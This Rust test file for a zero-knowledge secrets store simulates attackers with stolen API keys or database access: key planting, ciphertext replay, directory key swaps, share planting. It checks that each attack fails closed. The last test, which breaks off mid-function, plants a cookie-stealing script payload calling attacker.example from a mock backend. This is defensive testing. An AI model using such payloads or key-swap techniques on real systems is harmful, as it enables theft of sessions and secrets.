//! Zero knowledge against a hostile server side (`../shared/THREAT-MODEL.md`): each test performs
//! an attack with exactly the access the threat model names, using harden's own crypto functions
//! and nothing more, and sees it fail closed.
//!
//! - A1, a thief of one API key: plants a data key of their choosing (a new version keeping the
//!   key epoch, or a record pre-created under a name the owner will use), forges whole records,
//!   writes an old version's ciphertext back as the newest.
//! - A4, a database writer: rewrites a stored version's ciphertext with an older one.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use uuid::Uuid;

use harden_domain::crypto::{self, DataKey, PublicKeys, RecordContext, VersionAt};

use crate::helpers::{expect_error, expect_json, kv_path, spawn_app, TestApp};

pub const OWNER_SECRET: &str = "the owner's own user secret";
pub const RECIPIENT_SECRET: &str = "the recipient's user secret";

pub struct Victim {
    pub org: Uuid,
    pub owner: String,
    pub owner_id: Uuid,
    pub recipient: String,
    pub recipient_id: Uuid,
}

pub async fn victim(app: &TestApp) -> Victim {
    let fx = app.org_with_users("victim").await;
    for (key, secret) in [(&fx.admin_key, OWNER_SECRET), (&fx.member_key, RECIPIENT_SECRET)] {
        let res =
            app.proxy(Method::POST, "/v1/keys/generate", &[("X-Api-Key", key), ("X-User-Secret", secret)], None).await;
        expect_json(res, StatusCode::CREATED).await;
    }
    Victim {
        org: fx.org,
        owner: fx.admin_key,
        owner_id: fx.admin_id,
        recipient: fx.member_key,
        recipient_id: fx.member_id,
    }
}

pub async fn owner_put(app: &TestApp, v: &Victim, name: &str, value: &str) -> Value {
    let res = app
        .proxy(
            Method::PUT,
            &format!("/v1/kv/{name}"),
            &[("X-Api-Key", &v.owner), ("X-User-Secret", OWNER_SECRET)],
            Some(json!({ "valueB64": STANDARD.encode(value) })),
        )
        .await;
    let status = res.status();
    let body = res.text().await.unwrap();
    assert!(status.is_success(), "{status} {body}");
    serde_json::from_str(&body).unwrap()
}

/// A write with the owner's API key alone, no user secret.
async fn key_only(app: &TestApp, v: &Victim, name: &str, value: &str) -> reqwest::Response {
    let body = json!({ "valueB64": STANDARD.encode(value) });
    app.proxy(Method::PUT, &format!("/v1/kv/{name}"), &[("X-Api-Key", &v.owner)], Some(body)).await
}

pub async fn owner_get(app: &TestApp, v: &Victim, name: &str) -> reqwest::Response {
    app.proxy(Method::GET, &format!("/v1/kv/{name}"), &[("X-Api-Key", &v.owner), ("X-User-Secret", OWNER_SECRET)], None)
        .await
}

/// The owner shares `name` with the recipient; answers the share id.
pub async fn share_to_recipient(app: &TestApp, v: &Victim, name: &str, alias: &str) -> String {
    let share = json!({ "recipientUserId": v.recipient_id, "permission": "read", "alias": alias });
    let headers = [("X-Api-Key", v.owner.as_str()), ("X-User-Secret", OWNER_SECRET)];
    let res = app.proxy(Method::POST, &format!("/v1/kv/{name}/shares"), &headers, Some(share)).await;
    expect_json(res, StatusCode::CREATED).await["shareId"].as_str().unwrap().to_owned()
}

/// The value the recipient reads through their share.
pub async fn recipient_reads(app: &TestApp, v: &Victim, share_id: &str) -> String {
    let headers = [("X-Api-Key", v.recipient.as_str()), ("X-User-Secret", RECIPIENT_SECRET)];
    let res = app.proxy(Method::GET, &format!("/v1/kv/shared/{share_id}"), &headers, None).await;
    value_of(&expect_json(res, StatusCode::OK).await)
}

pub fn value_of(body: &Value) -> String {
    String::from_utf8(STANDARD.decode(body["valueB64"].as_str().unwrap()).unwrap()).unwrap()
}

fn b64(field: &Value) -> Vec<u8> {
    STANDARD.decode(field.as_str().unwrap()).unwrap()
}

/// The attacker's own tools: the API key, and harden's public crypto functions.
pub struct Attacker<'a> {
    app: &'a TestApp,
    api_key: String,
    planted: DataKey,
}

impl Attacker<'_> {
    /// The owner's public keys, as `GET /users/me` shows them to the key's holder.
    async fn owner_public_keys(&self) -> (Uuid, Uuid, PublicKeys) {
        let me = expect_json(self.app.get("/users/me", &self.api_key).await, StatusCode::OK).await;
        let public = PublicKeys::from_bytes(&b64(&me["publicKeyEccB64"]), &b64(&me["publicKeyKyberB64"])).unwrap();
        (me["id"].as_str().unwrap().parse().unwrap(), me["orgId"].as_str().unwrap().parse().unwrap(), public)
    }

    /// A version written straight to the Backend: `plaintext` under the planted key, that key
    /// wrapped to the owner (anyone can make such a wrap), bound as a real client would bind it.
    pub async fn plant(&self, name: &str, fields: Value, at: VersionAt, plaintext: &str) -> reqwest::Response {
        let seal = |context: &RecordContext<'_>| {
            crypto::encrypt_value_at(&self.planted, [3; 12], context, at, plaintext.as_bytes())
        };
        self.put_version(name, fields, seal).await
    }

    /// `PUT /kv/{name}` of the ciphertext `seal` makes under the planted key, that key wrapped
    /// plainly to the owner, with `fields` (the key's use).
    async fn put_version(
        &self,
        name: &str,
        fields: Value,
        seal: impl FnOnce(&RecordContext<'_>) -> Vec<u8>,
    ) -> reqwest::Response {
        let (owner, org, public) = self.owner_public_keys().await;
        let context = RecordContext { kind: "kv", org, owner, name: name.as_bytes() };
        let ciphertext = seal(&context);
        let (ecc, kyber) = crypto::wrap_data_key(&public, owner, &context, &self.planted, &[4; 64], [5; 12]);
        let mut body = json!({
            "ciphertextB64": STANDARD.encode(ciphertext),
            "encryptedAesKeyEccB64": STANDARD.encode(ecc),
            "encryptedAesKeyKyberB64": STANDARD.encode(kyber),
        });
        body.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        self.app.put(&kv_path(name), &self.api_key, body).await
    }

    /// A version of format 1, as clients wrote them before values were bound to their version
    /// (the record context alone as associated data) and before owner wraps were sealed: the
    /// planted key wrapped plainly to the owner.
    pub async fn write_format_1(&self, name: &str, fields: Value, plaintext: &str) -> reqwest::Response {
        let seal = |context: &RecordContext<'_>| {
            let ciphertext = crypto::encrypt_value(&self.planted, [6; 12], context, plaintext.as_bytes());
            assert_eq!(ciphertext[0], crypto::FORMAT_V1);
            ciphertext
        };
        self.put_version(name, fields, seal).await
    }

    /// Whether the planted key opens the record's current value, however it was bound.
    pub async fn can_read_current(&self, name: &str) -> bool {
        let stored = expect_json(self.app.get(&kv_path(name), &self.api_key).await, StatusCode::OK).await;
        let (owner, org, _) = self.owner_public_keys().await;
        let context = RecordContext { kind: "kv", org, owner, name: name.as_bytes() };
        let blob = b64(&stored["ciphertextB64"]);
        let at =
            VersionAt { version: stored["version"].as_u64().unwrap(), epoch: stored["keyEpoch"].as_u64().unwrap() };
        crypto::decrypt_value_at(&self.planted, &context, at, &blob).is_ok()
            || crypto::decrypt_value(&self.planted, &context, &blob).is_ok()
    }
}

pub fn attacker<'a>(app: &'a TestApp, v: &Victim) -> Attacker<'a> {
    Attacker { app, api_key: v.owner.clone(), planted: DataKey::from_bytes([0x41; 32]) }
}

#[tokio::test]
async fn a_data_key_planted_with_the_api_key_alone_is_not_used_for_the_owners_next_value() {
    let app = spawn_app().await;
    let v = victim(&app).await;
    owner_put(&app, &v, "db-url", "postgres://first").await;
    // A recipient, so the attack would also spread the planted key to them.
    let share_id = share_to_recipient(&app, &v, "db-url", "db").await;

    // A1 writes a new version keeping the key epoch, under a key of their own wrapped to the owner.
    let a = attacker(&app, &v);
    let stored = expect_json(app.get("/kv/db-url", &a.api_key).await, StatusCode::OK).await;
    let epoch = stored["keyEpoch"].as_u64().unwrap();
    let planted = a.plant("db-url", json!({ "keyEpoch": epoch }), VersionAt { version: 2, epoch }, "planted").await;
    expect_json(planted, StatusCode::OK).await;
    assert!(a.can_read_current("db-url").await, "the attacker's own version opens with the planted key");
    // The owner reads it, flagged: the key was not sealed by them.
    let read = expect_json(owner_get(&app, &v, "db-url").await, StatusCode::OK).await;
    assert_eq!((value_of(&read).as_str(), read["ownerSealed"].as_bool()), ("planted", Some(false)));

    // The owner's next value is under a fresh key: the planted one does not open it.
    owner_put(&app, &v, "db-url", "postgres://the-real-password").await;
    assert!(!a.can_read_current("db-url").await, "the owner's next value opened with the planted key");
    let read = expect_json(owner_get(&app, &v, "db-url").await, StatusCode::OK).await;
    assert_eq!((value_of(&read).as_str(), read["ownerSealed"].as_bool()), ("postgres://the-real-password", Some(true)));
    // The fresh key was re-wrapped to the open share: the recipient reads the new value.
    assert_eq!(recipient_reads(&app, &v, &share_id).await, "postgres://the-real-password");
    // The sealed key is kept from now on.
    let before = expect_json(app.get("/kv/db-url", &a.api_key).await, StatusCode::OK).await["keyEpoch"].clone();
    owner_put(&app, &v, "db-url", "postgres://v4").await;
    let after = expect_json(app.get("/kv/db-url", &a.api_key).await, StatusCode::OK).await;
    assert_eq!(after["keyEpoch"], before, "a sealed key is reused");
    let _ = v.org;
}

#[tokio::test]
async fn a_record_pre_created_with_a_planted_key_does_not_keep_it_when_the_owner_writes() {
    let app = spawn_app().await;
    let v = victim(&app).await;
    let a = attacker(&app, &v);
    // Before the owner ever uses the name.
    let planted = a.plant("stripe-key", json!({ "freshKey": true }), VersionAt { version: 1, epoch: 1 }, "bait").await;
    expect_json(planted, StatusCode::CREATED).await;
    owner_put(&app, &v, "stripe-key", "sk_live_the_real_one").await;
    assert!(!a.can_read_current("stripe-key").await, "the owner's value opened with the planted key");
    let read = expect_json(owner_get(&app, &v, "stripe-key").await, StatusCode::OK).await;
    assert_eq!((value_of(&read).as_str(), read["ownerSealed"].as_bool()), ("sk_live_the_real_one", Some(true)));
}

#[tokio::test]
async fn a_forged_record_reads_back_flagged_as_not_sealed_by_its_owner() {
    let app = spawn_app().await;
    let v = victim(&app).await;
    let a = attacker(&app, &v);
    let forged = a.plant("forged", json!({ "freshKey": true }), VersionAt { version: 1, epoch: 1 }, "trust me").await;
    expect_json(forged, StatusCode::CREATED).await;
    let read = expect_json(owner_get(&app, &v, "forged").await, StatusCode::OK).await;
    assert_eq!(value_of(&read), "trust me");
    assert_eq!(read["ownerSealed"], false, "{read}");
    // Even with a tag-shaped blob of the attacker's making.
    let (owner, org, public) = a.owner_public_keys().await;
    let context = RecordContext { kind: "kv", org, owner, name: b"tagged" };
    let (ecc, kyber) = crypto::wrap_data_key(&public, owner, &context, &a.planted, &[4; 64], [5; 12]);
    let mut fake = vec![crypto::FORMAT_V2];
    fake.extend_from_slice(&ecc[1..]);
    fake.extend_from_slice(&[0x42; crypto::OWNER_TAG_LEN]);
    let ciphertext = crypto::encrypt_value_at(&a.planted, [3; 12], &context, VersionAt { version: 1, epoch: 1 }, b"x");
    let body = json!({
        "ciphertextB64": STANDARD.encode(ciphertext), "encryptedAesKeyEccB64": STANDARD.encode(fake),
        "encryptedAesKeyKyberB64": STANDARD.encode(kyber), "freshKey": true,
    });
    expect_json(app.put("/kv/tagged", &a.api_key, body).await, StatusCode::CREATED).await;
    let read = expect_json(owner_get(&app, &v, "tagged").await, StatusCode::OK).await;
    assert_eq!(read["ownerSealed"], false, "a made-up tag passed: {read}");
    owner_put(&app, &v, "tagged", "mine now").await;
    assert!(!a.can_read_current("tagged").await);
}

#[tokio::test]
async fn an_old_ciphertext_written_back_as_the_newest_version_is_refused() {
    let app = spawn_app().await;
    let v = victim(&app).await;
    owner_put(&app, &v, "flag", "old: feature off").await;
    owner_put(&app, &v, "flag", "new: feature on").await;
    // A1: the first version's ciphertext and wraps, written back through the Backend as version 3.
    let old = expect_json(app.get("/kv/flag?version=1", &v.owner).await, StatusCode::OK).await;
    let body = json!({
        "ciphertextB64": old["ciphertextB64"], "encryptedAesKeyEccB64": old["encryptedAesKeyEccB64"],
        "encryptedAesKeyKyberB64": old["encryptedAesKeyKyberB64"], "keyEpoch": old["keyEpoch"],
    });
    expect_json(app.put("/kv/flag", &v.owner, body).await, StatusCode::OK).await;
    let msg = expect_error(owner_get(&app, &v, "flag").await, StatusCode::CONFLICT).await;
    assert!(msg.contains("does not open as version 3"), "{msg}");
    // The versions that are what they say still open.
    let res = owner_get(&app, &v, "flag?version=2").await;
    assert_eq!(value_of(&expect_json(res, StatusCode::OK).await), "new: feature on");

    // A4: a database writer puts version 1's ciphertext in place of version 2's.
    owner_put(&app, &v, "flag2", "old").await;
    owner_put(&app, &v, "flag2", "new").await;
    sqlx::query(
        "UPDATE kv_versions SET ciphertext = (SELECT ciphertext FROM kv_versions WHERE key_name = 'flag2' AND version = 1)
         WHERE key_name = 'flag2' AND version = 2",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    expect_error(owner_get(&app, &v, "flag2").await, StatusCode::CONFLICT).await;
}

#[tokio::test]
async fn a_write_with_only_the_api_key_is_stored_for_the_owner_and_cannot_be_read_back_with_it() {
    let app = spawn_app().await;
    let v = victim(&app).await;
    // A write-only service (CI, a rotation job) stores a value it cannot read.
    let written = expect_json(key_only(&app, &v, "ci-token", "token-1").await, StatusCode::CREATED).await;
    assert_eq!(written["version"], 1);
    let res = app.proxy(Method::GET, "/v1/kv/ci-token", &[("X-Api-Key", &v.owner)], None).await;
    expect_error(res, StatusCode::BAD_REQUEST).await;
    let read = expect_json(owner_get(&app, &v, "ci-token").await, StatusCode::OK).await;
    assert_eq!((value_of(&read).as_str(), read["ownerSealed"].as_bool()), ("token-1", Some(false)));

    // A record with an open share: the fresh key is wrapped to the recipient too.
    let share_id = share_to_recipient(&app, &v, "ci-token", "ci").await;
    expect_json(key_only(&app, &v, "ci-token", "token-2").await, StatusCode::OK).await;
    assert_eq!(recipient_reads(&app, &v, &share_id).await, "token-2");
    // The owner's next write seals a fresh key.
    owner_put(&app, &v, "ci-token", "token-3").await;
    let read = expect_json(owner_get(&app, &v, "ci-token").await, StatusCode::OK).await;
    assert_eq!((value_of(&read).as_str(), read["ownerSealed"].as_bool()), ("token-3", Some(true)));
    let _ = v.owner_id;
}

/// A value stored in format 1 (written before values were bound to their version, under a key whose
/// wrap has no owner seal), put straight to the Backend with the owner's API key as a client of
/// that time did: it still reads through the Proxy, flagged `ownerSealed: false`, and the owner's
/// next write stores format 2 under a fresh key (the key epoch moves; the old key opens nothing new).
#[tokio::test]
async fn a_format_1_value_reads_flagged_and_the_owners_next_write_stores_format_2_under_a_fresh_key() {
    let app = spawn_app().await;
    let v = victim(&app).await;
    let legacy = attacker(&app, &v);
    let written = legacy.write_format_1("legacy", json!({ "freshKey": true }), "written in 2025").await;
    expect_json(written, StatusCode::CREATED).await;
    let read = expect_json(owner_get(&app, &v, "legacy").await, StatusCode::OK).await;
    assert_eq!(
        (value_of(&read).as_str(), read["version"].as_i64(), read["ownerSealed"].as_bool()),
        ("written in 2025", Some(1), Some(false))
    );

    owner_put(&app, &v, "legacy", "written now").await;
    let stored = expect_json(app.get("/kv/legacy", &v.owner).await, StatusCode::OK).await;
    assert_eq!((stored["version"].as_u64(), stored["keyEpoch"].as_u64()), (Some(2), Some(2)), "a fresh key: {stored}");
    assert_eq!(b64(&stored["ciphertextB64"])[0], crypto::FORMAT_V2, "the next write is format 2");
    let ecc = b64(&stored["encryptedAesKeyEccB64"]);
    assert_eq!((ecc[0], ecc.len()), (crypto::FORMAT_V2, crypto::WRAP_ECC_SEALED_LEN), "an owner-sealed wrap");
    assert!(!legacy.can_read_current("legacy").await, "the format-1 value's key was reused");
    let read = expect_json(owner_get(&app, &v, "legacy").await, StatusCode::OK).await;
    assert_eq!((value_of(&read).as_str(), read["ownerSealed"].as_bool()), ("written now", Some(true)));
    // The old version still opens as what it is: format 1, flagged.
    let old = expect_json(owner_get(&app, &v, "legacy?version=1").await, StatusCode::OK).await;
    assert_eq!((value_of(&old).as_str(), old["ownerSealed"].as_bool()), ("written in 2025", Some(false)));
}

/// A format-1 ciphertext does not bind its version, so A1 (the owner's API key) writing an old one
/// back as the newest version is served as current: the README says so, and the answer is always
/// flagged (`ownerSealed: false` for the owner, `versionBound: false` for a recipient), never passed
/// off as sealed, before and after the owner's next write moved the record to format 2.
#[tokio::test]
async fn an_old_format_1_ciphertext_written_back_is_served_flagged_never_as_sealed() {
    let app = spawn_app().await;
    let v = victim(&app).await;
    let legacy = attacker(&app, &v);
    expect_json(
        legacy.write_format_1("flag", json!({ "freshKey": true }), "old: feature off").await,
        StatusCode::CREATED,
    )
    .await;
    expect_json(legacy.write_format_1("flag", json!({ "keyEpoch": 1 }), "new: feature on").await, StatusCode::OK).await;
    let share_id = share_to_recipient(&app, &v, "flag", "flag").await;
    let headers = [("X-Api-Key", v.recipient.as_str()), ("X-User-Secret", RECIPIENT_SECRET)];
    let shared =
        expect_json(app.proxy(Method::GET, &format!("/v1/kv/shared/{share_id}"), &headers, None).await, StatusCode::OK)
            .await;
    assert_eq!((value_of(&shared).as_str(), shared["versionBound"].as_bool()), ("new: feature on", Some(false)));

    // Version 1's ciphertext and wraps written back through the Backend as version 3.
    let old = expect_json(app.get("/kv/flag?version=1", &v.owner).await, StatusCode::OK).await;
    let write_back = |epoch: &Value| {
        json!({
            "ciphertextB64": old["ciphertextB64"], "encryptedAesKeyEccB64": old["encryptedAesKeyEccB64"],
            "encryptedAesKeyKyberB64": old["encryptedAesKeyKyberB64"], "keyEpoch": epoch,
        })
    };
    expect_json(app.put("/kv/flag", &v.owner, write_back(&old["keyEpoch"])).await, StatusCode::OK).await;
    let read = expect_json(owner_get(&app, &v, "flag").await, StatusCode::OK).await;
    assert_eq!(
        (value_of(&read).as_str(), read["version"].as_i64(), read["ownerSealed"].as_bool()),
        ("old: feature off", Some(3), Some(false)),
        "format 1 is served as current, but flagged"
    );
    let shared =
        expect_json(app.proxy(Method::GET, &format!("/v1/kv/shared/{share_id}"), &headers, None).await, StatusCode::OK)
            .await;
    assert_eq!((value_of(&shared).as_str(), shared["versionBound"].as_bool()), ("old: feature off", Some(false)));

    // The owner's next write moves the record to format 2 under a fresh key, re-wrapped to the share.
    owner_put(&app, &v, "flag", "owner: feature on").await;
    let shared =
        expect_json(app.proxy(Method::GET, &format!("/v1/kv/shared/{share_id}"), &headers, None).await, StatusCode::OK)
            .await;
    assert_eq!((value_of(&shared).as_str(), shared["versionBound"].as_bool()), ("owner: feature on", Some(true)));
    // Written back again (at the current key epoch, the old plain wrap with it): still only flagged.
    let epoch = expect_json(app.get("/kv/flag", &v.owner).await, StatusCode::OK).await["keyEpoch"].clone();
    expect_json(app.put("/kv/flag", &v.owner, write_back(&epoch)).await, StatusCode::OK).await;
    let read = expect_json(owner_get(&app, &v, "flag").await, StatusCode::OK).await;
    assert_eq!((value_of(&read).as_str(), read["ownerSealed"].as_bool()), ("old: feature off", Some(false)));
    // The recipient's wrap of this epoch is of the owner's fresh key, which the old ciphertext is not under.
    let res = app.proxy(Method::GET, &format!("/v1/kv/shared/{share_id}"), &headers, None).await;
    expect_error(res, StatusCode::CONFLICT).await;
    // With the owner's sealed wrap of version 4 kept, the old ciphertext does not open at all: a
    // sealed key never encrypted a format-1 value, so a format-1 value is never read as sealed.
    let sealed = expect_json(app.get("/kv/flag?version=4", &v.owner).await, StatusCode::OK).await;
    let body = json!({
        "ciphertextB64": old["ciphertextB64"], "encryptedAesKeyEccB64": sealed["encryptedAesKeyEccB64"],
        "encryptedAesKeyKyberB64": sealed["encryptedAesKeyKyberB64"], "keyEpoch": epoch,
    });
    expect_json(app.put("/kv/flag", &v.owner, body).await, StatusCode::OK).await;
    expect_error(owner_get(&app, &v, "flag").await, StatusCode::CONFLICT).await;
}

/// A4 rewrites the directory read model: `user`'s bundle and public keys become `keys`', in a
/// bundle self-signed as that user of that org (anyone can make one for any id).
pub async fn swap_directory_keys(app: &TestApp, org: Uuid, user: Uuid, keys: &crypto::PrivateKeys) -> String {
    use harden_domain::bundle::KeyBundle;
    let bundle = KeyBundle::sign(keys, org, user);
    let fingerprint = KeyBundle::verify(&bundle, org, user).unwrap().fingerprint().to_owned();
    let public = keys.public_keys();
    sqlx::query(
        "UPDATE directory_users SET key_bundle = $2, public_key_ecc = $3, public_key_kyber = $4 WHERE user_id = $1",
    )
    .bind(user)
    .bind(STANDARD.encode(&bundle))
    .bind(STANDARD.encode(public.ecc_bytes()))
    .bind(STANDARD.encode(public.kyber_bytes()))
    .execute(&app.pool)
    .await
    .unwrap();
    fingerprint
}

#[tokio::test]
async fn a_recipients_or_trustees_keys_swapped_in_the_read_model_are_refused_and_nothing_is_wrapped_to_them() {
    let app = spawn_app().await;
    let v = victim(&app).await;
    let owner = [("X-Api-Key", v.owner.as_str()), ("X-User-Secret", OWNER_SECRET)];
    owner_put(&app, &v, "a", "first").await;
    owner_put(&app, &v, "b", "second").await;
    // The directory shows the recipient's fingerprint; the first share pins it.
    let profile =
        app.proxy(Method::GET, &format!("/v1/users/org/{}", v.recipient_id), &[("X-Api-Key", &v.owner)], None).await;
    let profile = expect_json(profile, StatusCode::OK).await;
    assert_eq!(profile["keysVerified"], true, "{profile}");
    let genuine = profile["fingerprint"].as_str().unwrap().to_owned();
    let share = |name: &str, extra: Value| {
        let mut body = json!({ "recipientUserId": v.recipient_id, "permission": "read", "alias": "x" });
        body.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
        (format!("/v1/kv/{name}/shares"), body)
    };
    let (path, body) = share("a", json!({}));
    expect_json(app.proxy(Method::POST, &path, &owner, Some(body)).await, StatusCode::CREATED).await;

    // A4 swaps the recipient's keys for its own, in a bundle that verifies on its own.
    let attacker_keys = crypto::PrivateKeys::from_seeds([0x66; 32], [0x67; 64]);
    let swapped = swap_directory_keys(&app, v.org, v.recipient_id, &attacker_keys).await;
    let (grants, trustees) = (app.events_of_type("ShareGranted").await, app.events_of_type("RecoveryTrusteeSet").await);
    let (path, body) = share("b", json!({}));
    let msg = expect_error(app.proxy(Method::POST, &path, &owner, Some(body)).await, StatusCode::CONFLICT).await;
    assert!(msg.contains(&genuine) && msg.contains(&swapped), "both fingerprints are named: {msg}");
    let trustee = json!({ "xorApplied": true, "xorAnswer": "the name of my first cat" });
    let path = format!("/v1/recovery/trustees/{}", v.recipient_id);
    expect_error(app.proxy(Method::PUT, &path, &owner, Some(trustee)).await, StatusCode::CONFLICT).await;
    // A rotation (the owner's next write after a key someone else planted) re-wraps to no swapped key either.
    let a = attacker(&app, &v);
    let stored = expect_json(app.get("/kv/a", &a.api_key).await, StatusCode::OK).await;
    let (version, epoch) = (stored["version"].as_u64().unwrap(), stored["keyEpoch"].as_u64().unwrap());
    let planted =
        a.plant("a", json!({ "keyEpoch": epoch }), VersionAt { version: version + 1, epoch }, "planted").await;
    expect_json(planted, StatusCode::OK).await;
    let body = json!({ "valueB64": STANDARD.encode("the owner's next value") });
    let res = app.proxy(Method::PUT, "/v1/kv/a", &owner, Some(body)).await;
    expect_error(res, StatusCode::CONFLICT).await;
    assert_eq!(app.events_of_type("ShareGranted").await, grants, "nothing was shared to the swapped keys");
    assert_eq!(app.events_of_type("RecoveryTrusteeSet").await, trustees, "no recovery share for the swapped keys");
    assert_eq!(app.events_of_type("ShareRewrapped").await, 0);

    // The owner confirms a new fingerprint only after comparing it out of band.
    let (path, body) = share("b", json!({ "expectedFingerprint": genuine }));
    expect_error(app.proxy(Method::POST, &path, &owner, Some(body)).await, StatusCode::CONFLICT).await;
    let (path, body) = share("b", json!({ "expectedFingerprint": swapped }));
    expect_json(app.proxy(Method::POST, &path, &owner, Some(body)).await, StatusCode::CREATED).await;
    // A bundle that does not verify (a flipped byte) is refused whatever is expected.
    sqlx::query("UPDATE directory_users SET key_bundle = 'AAAA' WHERE user_id = $1")
        .bind(v.recipient_id)
        .execute(&app.pool)
        .await
        .unwrap();
    let (path, body) = share("a", json!({ "expectedFingerprint": swapped }));
    let res = app.proxy(Method::POST, &path, &owner, Some(body)).await;
    assert!(res.status().is_client_error(), "{}", res.status());
}

#[tokio::test]
async fn keys_published_without_a_bundle_are_used_only_with_the_fingerprint_the_owner_expects() {
    use harden_domain::bundle::unverified_fingerprint;
    let app = spawn_app().await;
    let fx = app.org_with_users("unverified").await;
    let res = app
        .proxy(
            Method::POST,
            "/v1/keys/generate",
            &[("X-Api-Key", &fx.admin_key), ("X-User-Secret", OWNER_SECRET)],
            None,
        )
        .await;
    expect_json(res, StatusCode::CREATED).await;
    // The member's client does its own crypto and sends the spec's four fields: no bundle.
    let keys = crypto::PrivateKeys::from_seeds([0x21; 32], [0x22; 64]);
    let kek = crypto::derive_kek(b"the member's own secret", [0x23; 16], crypto::KdfParams::MINIMUM).unwrap();
    let (ecc, kyber) = crypto::seal_private_keys(&kek, fx.member_id, &keys, [[1; 12], [2; 12]]);
    let public = keys.public_keys();
    let body = json!({
        "publicKeyEccB64": STANDARD.encode(public.ecc_bytes()), "publicKeyKyberB64": STANDARD.encode(public.kyber_bytes()),
        "encryptedPrivateKeyEccB64": STANDARD.encode(&ecc), "encryptedPrivateKeyKyberB64": STANDARD.encode(&kyber),
    });
    expect_json(app.post("/users/me/keys", &fx.member_key, body).await, StatusCode::OK).await;
    let listed = expect_json(
        app.proxy(Method::GET, "/v1/users/org", &[("X-Api-Key", &fx.admin_key)], None).await,
        StatusCode::OK,
    )
    .await;
    let member = listed.as_array().unwrap().iter().find(|p| p["id"] == fx.member_id.to_string()).unwrap().clone();
    assert_eq!(member["keysVerified"], false, "{member}");
    let fingerprint = unverified_fingerprint(&public);
    assert_eq!(member["fingerprint"], fingerprint.as_str());

    let owner = [("X-Api-Key", fx.admin_key.as_str()), ("X-User-Secret", OWNER_SECRET)];
    let put = app.proxy(Method::PUT, "/v1/kv/k", &owner, Some(json!({ "valueB64": "dg==" }))).await;
    expect_json(put, StatusCode::CREATED).await;
    let share = |extra: Value| {
        let mut body = json!({ "recipientUserId": fx.member_id, "permission": "read" });
        body.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
        body
    };
    let msg = expect_error(
        app.proxy(Method::POST, "/v1/kv/k/shares", &owner, Some(share(json!({})))).await,
        StatusCode::CONFLICT,
    )
    .await;
    assert!(msg.contains("expectedFingerprint"), "{msg}");
    let ok = app
        .proxy(Method::POST, "/v1/kv/k/shares", &owner, Some(share(json!({ "expectedFingerprint": fingerprint }))))
        .await;
    expect_json(ok, StatusCode::CREATED).await;
}

/// A4 with a stolen API key (A2's access suffices): a share the owner never made, to a user whose
/// bundle verifies, is listed as open; a version written with the key alone makes the owner's next
/// write a rotation. The rotation must not re-wrap the owner's new key to that user.
#[tokio::test]
async fn a_share_the_owner_never_made_gets_nothing_when_the_owners_next_write_rotates() {
    let app = spawn_app().await;
    let v = victim(&app).await;
    owner_put(&app, &v, "db-url", "the owner's first value").await;
    // The recipient stands for the attacker here: a user of the org with keys of their own that
    // verify, whom the owner never shared with (so never pinned).
    let bogus_wrap = |len: usize| {
        let mut bytes = vec![1u8];
        bytes.extend(std::iter::repeat_n(7u8, len - 1));
        STANDARD.encode(bytes)
    };
    let grant = json!({
        "recipientUserId": v.recipient_id, "permission": "read",
        "encryptedAliasB64": bogus_wrap(crypto::WRAP_ECC_LEN + crypto::WRAP_KYBER_LEN + 40),
        "encryptedAesKeyEccB64": bogus_wrap(crypto::WRAP_ECC_LEN),
        "encryptedAesKeyKyberB64": bogus_wrap(crypto::WRAP_KYBER_LEN),
        "keyEpoch": 1,
    });
    let planted = expect_json(app.post("/kv/db-url/shares", &v.owner, grant).await, StatusCode::CREATED).await;
    let share_id = planted["shareId"].as_str().unwrap().to_owned();
    let res = key_only(&app, &v, "db-url", "written with the key alone").await;
    assert!(res.status().is_success(), "{}", res.status());

    // The owner's next write rotates: it is refused, naming the share, and writes nothing.
    let res = app
        .proxy(
            Method::PUT,
            "/v1/kv/db-url",
            &[("X-Api-Key", &v.owner), ("X-User-Secret", OWNER_SECRET)],
            Some(json!({ "valueB64": STANDARD.encode("the owner's secret value") })),
        )
        .await;
    let message = expect_error(res, StatusCode::CONFLICT).await;
    assert!(message.contains("never shared with"), "{message}");
    // What the planted share opens is at most what the key alone wrote, never the owner's value.
    let headers = [("X-Api-Key", v.recipient.as_str()), ("X-User-Secret", RECIPIENT_SECRET)];
    let res = app.proxy(Method::GET, &format!("/v1/kv/shared/{share_id}"), &headers, None).await;
    if res.status().is_success() {
        assert_ne!(value_of(&res.json().await.unwrap()), "the owner's secret value");
    }
    let read = expect_json(owner_get(&app, &v, "db-url").await, StatusCode::OK).await;
    assert_eq!(value_of(&read), "written with the key alone", "nothing of the owner's was written");

    // A share the owner made is pinned, and a rotation re-wraps to it as before.
    let res =
        app.proxy(Method::DELETE, &format!("/v1/kv/db-url/shares/{share_id}"), &[("X-Api-Key", &v.owner)], None).await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    let share_id = share_to_recipient(&app, &v, "db-url", "the database").await;
    let res = key_only(&app, &v, "db-url", "again with the key alone").await;
    assert!(res.status().is_success());
    owner_put(&app, &v, "db-url", "the owner's value after all").await;
    assert_eq!(recipient_reads(&app, &v, &share_id).await, "the owner's value after all");
}

/// A4, the Backend itself: its answers at the public edge (passed through, and through the
/// dashboard's /ui/api) carry HTML with a script and a cookie for the dashboard's session. None of
/// it may land on the dashboard's origin as a page, a script or a cookie.
#[tokio::test]
async fn a_hostile_backend_cannot_put_a_page_a_script_or_a_cookie_on_the_dashboards_origin() {
    use axum::http::header;
    let (user, org) = (Uuid::new_v4(), Uuid::new_v4());
    let me = json!({ "id": user, "orgId": org, "name": "victim", "isAdmin": false });
    let evil = axum::Router::new()
        .route("/users/me", axum::routing::get(move || async move { axum::Json(me) }))
        .fallback(|| async {
            (
                [(header::CONTENT_TYPE, "text/html"), (header::SET_COOKIE, "harden_session=planted; Path=/ui")],
                "<script>fetch('//attacker.example/?' + document.cookie)</script>",
            )
        });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, evil).await.unwrap() });
    let app = crate::helpers::spawn_app_with(|s| s.proxy_backend_url = url).await;
    let inert = |headers: &reqwest::header::HeaderMap, what: &str| {
        assert!(headers.get(header::SET_COOKIE).is_none(), "{what}: a cookie passed");
        assert_eq!(headers[header::CONTENT_TYPE], "application/octet-stream", "{what}: HTML passed as HTML");
